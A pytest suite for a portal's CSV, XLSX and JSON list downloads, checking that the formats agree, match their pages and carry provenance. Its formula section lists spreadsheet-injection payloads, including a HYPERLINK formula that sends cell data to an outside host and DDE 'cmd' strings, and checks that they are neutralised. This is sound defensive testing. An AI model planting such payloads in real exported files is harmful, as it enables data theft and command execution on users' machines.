"""Every list as CSV, XLSX and JSON: the same entries as its page, the same contents in each."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook

from accord.portal.downloads.columns import safe
from accord.portal.downloads.routes import LISTS
from accord.record.schema import kinds

ASKED = [
    ("events", ""),
    ("events", "?year=2016"),
    ("events", "?series=SER-FORUM&sort=oldest"),
    ("events", "?form=forum&q=2013&sort=title"),
    ("events", "?as_of=2012-01-01"),
    ("items", "?instrument=INS-2011-AP"),
    ("items", "?recorded=none&force=firm"),
    ("outputs", "?form=report"),
    ("discrepancies", "?form=date"),
    ("instruments", ""),
    ("parties", ""),
    ("sources", ""),
]


def read(client, address: str) -> bytes:
    response = client.get(address)
    assert response.status_code == 200, address
    return b"".join(response.streaming_content)


def rows_of_csv(client, address: str) -> list[list[str]]:
    text = read(client, address).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def rows_of_xlsx(client, address: str) -> tuple[list[list[str]], list[list[str]]]:
    book = load_workbook(io.BytesIO(read(client, address)))
    assert all(cell.data_type != "f" for sheet in book for row in sheet for cell in row)
    first, second = (
        [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
        for sheet in book
    )
    return first, second


def with_options(client, name: str, query: str) -> str:
    """Take a filter's value from the page where the record has none of that name."""
    if client.get(f"/en/{name}/{query}").status_code == 200:
        return query
    page = client.get(f"/en/{name}/").content.decode()
    field = re.search(r"[?&](form|force)=", query)
    assert field
    options = re.search(rf'name="{field[1]}".*?</select>', page, re.S)
    value = re.findall(r'value="([^"]+)"', options[0])[0]
    return re.sub(rf"{field[1]}=\w+", f"{field[1]}={value}", query)


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize(("name", "query"), ASKED)
def test_the_three_forms_hold_the_same_entries_with_the_same_contents(reader, lang, name, query):
    query = with_options(reader, name, query)
    told = json.loads(read(reader, f"/{lang}/{name}/download.json{query}"))
    table = rows_of_csv(reader, f"/{lang}/{name}/download.csv{query}")
    sheet, about = rows_of_xlsx(reader, f"/{lang}/{name}/download.xlsx{query}")
    ids = [one["id"] for one in told["entries"]]
    assert ids == [row[0] for row in table[1:]]
    assert [row[:-1] for row in table] == [
        [cell.replace("\r\n", "\n") for cell in row] for row in sheet
    ]
    assert len(set(table[0])) == len(table[0])
    assert about[0][1] and told["about"]["page"] in [row[1] for row in about]


@pytest.mark.parametrize(("name", "query"), ASKED)
def test_a_download_holds_what_its_page_lists(reader, name, query):
    query = with_options(reader, name, query)
    told = json.loads(read(reader, f"/en/{name}/download.json{query}"))
    ids = {one["id"] for one in told["entries"]}
    shown: set[str] = set()
    number = 1
    while True:
        joined = f"{query}{'&' if query else '?'}page={number}"
        text = reader.get(f"/en/{name}/{joined if number > 1 else query}").content.decode()
        main = text[text.index('id="main"') : text.index("<footer")]
        kind = LISTS[name][0]
        own = re.findall(rf'href="/en/{name}/([^/"]+)/', main)
        shown |= {local for local in own if kind != "instrument" or local in ids}
        number += 1
        if f"page={number}" not in text:
            break
    extra = ids - shown
    assert shown <= ids and (not extra or name in ("instruments", "parties")), extra


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted(kinds()))
def test_every_kind_downloads_alike_in_the_three_forms(reader, kind):
    told = json.loads(read(reader, f"/zh/entries/{kind}/download.json"))
    table = rows_of_csv(reader, f"/zh/entries/{kind}/download.csv")
    sheet, _about = rows_of_xlsx(reader, f"/zh/entries/{kind}/download.xlsx")
    assert [one["id"] for one in told["entries"]] == [row[0] for row in table[1:]]
    assert [row[:-1] for row in table] == sheet


def test_items_say_what_was_planned_and_is_recorded(reader):
    query = "?instrument=INS-2011-AP"
    told = json.loads(read(reader, f"/en/items/download.json{query}"))["entries"]
    head, *rows = rows_of_csv(reader, f"/en/items/download.csv{query}")
    columns = head.index("Planned"), head.index("Recorded")
    assert [[one["planned"], one["recorded"]] for one in told] == [
        [row[n] for n in columns] for row in rows
    ]
    assert all(row[columns[1]] for row in rows)


def test_a_csv_file_is_what_a_spreadsheet_expects(reader):
    response = reader.get("/zh/events/download.csv?year=2016")
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf") and b"\r\n" in content
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    head, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    assert head[0] == "编号" and head[-1] == "出处说明"
    assert all("year=2016" in row[-1] and "判断日期" in row[-1] for row in rows)


def test_a_file_says_where_it_is_from_and_as_of_when(reader):
    query = "?year=2012&as_of=2013-01-01&known_at=2099-01-01"
    about = json.loads(read(reader, f"/en/events/download.json{query}"))["about"]
    assert about["as_of"] == "2013-01-01" and about["known_at"].startswith("2099-01-01")
    assert about["filters"]["year"] == "2012" and about["node"] and about["licence"]["zh"]
    assert about["page"].startswith("http://testserver/en/events/?as_of=2013-01-01")


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        ("/en/events/download.pdf", 404, "POR011"),
        ("/en/entries/nonsense/download.csv", 404, "POR011"),
        ("/en/events/download.csv?year=1066", 400, "POR014"),
        ("/zh/events.ics?form=party", 400, "POR014"),
        ("/zh/changes.atom?as_of=soon", 400, "POR012"),
    ],
)
def test_what_a_page_refuses_its_download_refuses(reader, path, status, code):
    response = reader.get(path)
    assert response.status_code == status and code in response.content.decode()
    assert reader.post("/en/events/download.csv").status_code == 405


# ---- formulas ------------------------------------------------------------------------

EVIL = [
    '=HYPERLINK("http://elsewhere/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_a_cell_that_begins_like_a_formula_is_neutralised(reader, change, text):
    change("EV-2016-09-FORUM", title={"zh": text, "en": text, "en_form": "translated"})
    table = rows_of_csv(reader, "/en/events/download.csv?year=2016")
    row = next(r for r in table if r[0] == "EV-2016-09-FORUM")
    assert row[1].startswith("'") and row[2].startswith("'")
    sheet, _ = rows_of_xlsx(reader, "/en/events/download.xlsx?year=2016")
    assert next(r for r in sheet if r[0] == "EV-2016-09-FORUM")[1].startswith("'")
    told = json.loads(read(reader, "/en/events/download.json?year=2016"))
    found = next(e for e in told["entries"] if e["id"] == "EV-2016-09-FORUM")
    assert found["body"]["title"]["zh"] == text


def test_figures_and_characters_no_file_may_hold():
    assert safe("-3.8") == "-3.8" and safe(-4) == -4 and safe("+12") == "+12"
    assert safe("a\x00b\x0bc\ud800") == "a\ufffdb\ufffdc\ufffd"
    assert len(str(safe("x" * 50_000))) < 32_767


def test_several_cells_are_not_more_dangerous_in_one_line(reader, change):
    change("EV-2016-09-FORUM", outcome={"zh": 'a","=1+1', "en": "b\n=1+1", "en_form": "summary"})
    table = rows_of_csv(reader, "/en/events/download.csv?year=2016")
    assert all(not cell.startswith("=") for row in table for cell in row)
    assert {len(row) for row in table} == {len(table[0])}
